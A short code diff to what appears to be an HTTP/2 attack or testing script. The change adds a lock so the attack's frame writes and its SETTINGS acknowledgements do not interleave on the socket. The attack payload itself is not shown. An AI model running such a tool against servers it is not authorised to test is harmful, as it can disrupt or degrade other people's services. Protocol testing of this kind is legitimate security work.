@@ -135,11 +135,14 @@ def run_attack(host, port, name, big_path, tls):
     sock = connect(host, port, tls)
     frames = attack_frames(name, big_path)
 
+    lock = threading.Lock()  # whole frames only: the acks below go between the attack's frames
+    sock.sendall(PREFACE)
+
     def write():
         try:
-            sock.sendall(PREFACE)
             for f in frames:
-                sock.sendall(f)
+                with lock:
+                    sock.sendall(f)
         except OSError:
             pass  # the server closed the connection while the attack was being written
 
@@ -157,7 +160,8 @@ def run_attack(host, port, name, big_path, tls):
         kind, flags, stream, payload = f
         if kind == SETTINGS and not flags & ACK:
             try:
-                sock.sendall(frame(SETTINGS, ACK, 0))
+                with lock:
+                    sock.sendall(frame(SETTINGS, ACK, 0))
             except OSError:
                 pass  # closed already: what it sent before is still to be read
         elif kind == GOAWAY:
